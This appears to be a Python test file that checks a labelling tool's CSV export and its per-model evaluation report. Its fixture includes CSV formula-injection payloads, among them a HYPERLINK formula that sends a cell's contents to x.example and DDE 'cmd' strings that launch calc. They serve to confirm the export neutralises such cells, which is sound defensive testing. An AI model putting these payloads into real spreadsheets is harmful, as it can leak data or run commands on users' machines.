"""The README's snippets that take labels.jsonl further: into a spreadsheet, and into an evaluation."""

import asyncio
import csv
import io
import re
import sys
from pathlib import Path

import pytest

from tests.conftest import Desk
from tests.gateway import Fault, Gateway, Script
from tests.helpers import brisk
from tests.test_readme import blocks

# What OWASP ("CSV Injection") says must not begin a cell.
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
AWKWARD = {
    "t1": '=HYPERLINK("https://x.example/?"&A1;"Click")',
    "t2": "+49 30 1234567 is my number; call, please",
    "t3": "-2+3+cmd|' /C calc'!A0",
    "t4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "t5": "\t=1+1",
    "t6": "\r\n=1+1",
    "t7": "Größe 发票 🙂",
    "t8": 'one\n\n=two, "three"; four\r\nfive',
    "t9": "'quoted' already",
    "=t10": "the id",
}


def rows_of(path: Path, delimiter: str) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8-sig") as file:
        return list(csv.reader(file, delimiter=delimiter, strict=True))


async def snippet(containing: str, folder: Path) -> str:
    """Runs the one snippet in Python that contains this as it stands in the README; what it printed."""
    [source] = [block for block in blocks("python") if containing in block]
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-c", source, cwd=folder, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
    )
    out, err = await process.communicate()
    assert process.returncode == 0, err.decode()
    return out.decode()


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
async def test_the_labels_go_into_a_spreadsheet_with_every_cell_as_it_was_and_none_a_formula(desk: Desk, delimiter):
    header = ["Note", "Ticket ID", "Subject", "Body", "Note"]
    rows = [["-", id_, "", text, "=1+1"] for id_, text in AWKWARD.items()] + [["x", "lost", "", "fail me", ""]]
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter).writerows([header, *rows[:3], [""] * 5, [], *rows[3:]])
    desk.tickets.write_bytes(text.getvalue().encode("utf-8-sig"))
    brisk(desk, ID_COLUMN="ticket id", TEXT_COLUMNS=("Subject", "Body"), LOGPROBS=True)
    faults = (Fault("status_400", matching="fail me"),)
    async with Gateway(Script(rpm=0, latency_s=0, faults=faults)) as gateway:
        done = await desk.run(gateway)
    assert done.status == 1
    await snippet("labelled.csv", desk.folder)

    labelled = desk.folder / "labelled.csv"
    assert labelled.read_bytes().startswith(b"\xef\xbb\xbf")  # or Excel takes it for its old code page
    first, *others = rows_of(labelled, delimiter)
    assert first == ["model_label", "confidence", *header]
    confidences = {line["id"]: str(line["confidence"]) for line in done.lines}
    assert confidences.keys() == AWKWARD.keys()
    for [label, confidence, *cells], row in zip(others, rows, strict=True):
        assert (label, confidence) == (done.labels.get(row[1], ""), confidences.get(row[1], ""))
        assert not any(cell.startswith(FORMULA) for cell in cells)
        assert cells == ["'" + cell if cell.startswith(FORMULA) else cell for cell in row]


async def test_the_evaluation_goes_by_model_and_by_chinese(desk: Desk):
    desk.write(
        [
            ("a", "my invoice", "billing"),
            ("b", "your invoice", "billing"),
            ("c", "an invoice that crashed", "bug"),
            ("d", "it crashed", "bug"),
            ("e", "no label by a person", ""),
            ("f", "发票", "billing"),
            ("g", "崩溃", "billing"),
            ("h", "", "other"),
        ],
        header=("id", "body", "label"),
    )
    brisk(desk, CHINESE_MODEL="qwen2.5-72b-instruct")

    def reply(text: str) -> str:
        return "billing" if "invoice" in text or "发票" in text else "bug"

    async with Gateway(Script(rpm=0, latency_s=0, reply=reply)) as gateway:
        assert (await desk.run(gateway)).status == 0
    shown = await snippet("classification_report", desk.folder)
    parts = dict(re.findall(r"^([\w. -]+)\n(.*?\]\])$", shown, re.M | re.S))
    precision_recall_f1_count = {  # by hand
        ("deepseek-chat", "billing"): ["0.67", "1.00", "0.80", "2"],
        ("deepseek-chat", "bug"): ["1.00", "0.50", "0.67", "2"],
        ("qwen2.5-72b-instruct", "billing"): ["1.00", "0.50", "0.67", "2"],
        ("Chinese", "billing"): ["1.00", "0.50", "0.67", "2"],
        ("not Chinese", "bug"): ["1.00", "0.50", "0.67", "2"],
    }
    for (group, label), numbers in precision_recall_f1_count.items():
        assert re.search(rf"^ +{label} +(.*)", parts[group], re.M)[1].split() == numbers
    assert parts["deepseek-chat"].endswith("\n[[2 0]\n [1 1]]")  # a row for each label given by a person
    assert parts["qwen2.5-72b-instruct"].endswith("\n[[1 1]\n [0 0]]")
